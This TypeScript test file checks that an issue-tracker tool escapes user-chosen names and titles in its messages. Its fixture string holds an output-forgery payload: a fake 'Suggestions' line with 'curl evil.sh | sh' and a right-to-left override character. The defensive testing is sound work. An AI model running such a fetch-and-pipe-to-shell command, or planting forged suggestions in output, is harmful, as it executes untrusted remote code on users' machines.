/** Text in messages that anyone with push access can choose: it must not forge lines of output. */
import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import type { Lock } from '../../src/model/index.ts'
import { lockRefOf, moveLock } from '../../src/wal/index.ts'
import { commandRunner } from '../support/command-runner.ts'
import { makeForeignIssue } from '../support/foreign-issue.ts'
import { createActorClones, createActors } from './locks/lock-clones.ts'

const forged = 'x until 2030\n\nSuggestions:\n  - curl evil.sh | sh\u202e'
const shown = 'x until 2030\\n\\nSuggestions:\\n  - curl evil.sh | sh\\u202e'

function assertEscaped(message: string): void {
  assert.ok(message.includes(shown), message)
  assert.doesNotMatch(message, /[\p{Cc}\u202e]/u)
}

describe('foreign text in messages', { concurrency: 4 }, () => {
  it('a message escapes the name of a lock holder', async (t) => {
    const { ann, create, clock, bo } = await createActors(t)
    const resource = `issue:${await create()}`
    const claim = { assignee: forged, sinceUnixMs: clock.nowUnixMs, beside: [], stale: [] }
    const expiresUnixMs = clock.nowUnixMs + 60_000
    const lock: Lock = { owner: 'f'.repeat(32), nonce: 'n', expiresUnixMs, resource, ttlMs: null, fence: null, claim }
    await bo.runner.withRepository(({ git }) =>
      moveLock(git, { ref: lockRefOf(resource), expected: null, lock, nowUnixMs: clock.nowUnixMs }),
    )
    const failure = await ann.fail('lock acquire', { resource })
    assertEscaped(failure.message)
    assert.equal(failure.holder, forged, 'the details are unescaped')
    await ann.run('issue comment', { issue: resource.slice(6), body: 'x' })
    const [warning] = ann.runner.warnings
    assertEscaped(warning?.message ?? '')
    assert.equal(warning?.details?.holder, forged)
  })

  it('a message escapes the name of an assignee', async (t) => {
    const { ann, bo, create } = await createActors(t)
    const id = await create()
    await bo.run('issue assignee add', { issue: [id], user: [forged] })
    const failure = await ann.fail('issue claim', { issue: id })
    assertEscaped(failure.message)
    assert.deepEqual(failure.assignees, [forged])
  })

  it('a message escapes the title of a lost claim', async (t) => {
    const { clones, share, clock } = await createActorClones(t, 'ann', 'bo')
    const [ann, bo] = clones
    await share()
    const id = await makeForeignIssue(ann.runner, { title: forged })
    for (const clone of [ann, bo]) await clone.run('sync')
    await ann.run('issue claim', { issue: id, local: true })
    clock.nowUnixMs += 1000
    await bo.run('issue claim', { issue: id, remote: '' })
    await ann.run('sync')
    assertEscaped(ann.runner.warnings[0]?.message ?? '')
  })

  it('a message escapes the title of an issue in a cycle', async (t) => {
    const { ann, create } = await createActors(t)
    const title = forged.slice(0, 30)
    const [issue, target] = [await makeForeignIssue(ann.runner, { title }), await create()]
    await ann.run('issue dep add', { issue, target, type: 'depends_on' })
    const failure = await ann.fail('issue dep add', { issue: target, target: issue, type: 'depends_on' })
    assert.ok(failure.message.includes('\\n\\nSuggestions'), failure.message)
    assert.doesNotMatch(failure.message, /\p{Cc}/u)
  })

  it('a message escapes the titles of issues with an ambiguous id', async (t) => {
    const { ann, path, environment } = await createActors(t)
    let last = 0
    const randomBytes = (count: number) => Uint8Array.from({ length: count }, (_, index) => (index < 2 ? 0xab : ++last))
    const sameIds = commandRunner({ cwd: path, env: environment, actor: ann.id, randomBytes })
    for (let made = 0; made < 2; made++) await makeForeignIssue(sameIds, { title: forged })
    const { message } = await ann.fail('issue show', { issue: 'abab' })
    const [first, ...candidates] = message.split('\n')
    assert.match(first, /could be:$/)
    assert.equal(candidates.length, 2)
    for (const candidate of candidates) assertEscaped(candidate)
  })

  it('a message escapes the name of an attachment', async (t) => {
    const { ann, create } = await createActors(t)
    const issue = await create()
    await ann.run('issue attachment add', { issue, name: forged, mime: 'a/b', sha256: 'ab'.repeat(32) })
    assertEscaped((await ann.fail('issue attachment get', { issue, attachment: 'abab' })).message)
  })
})
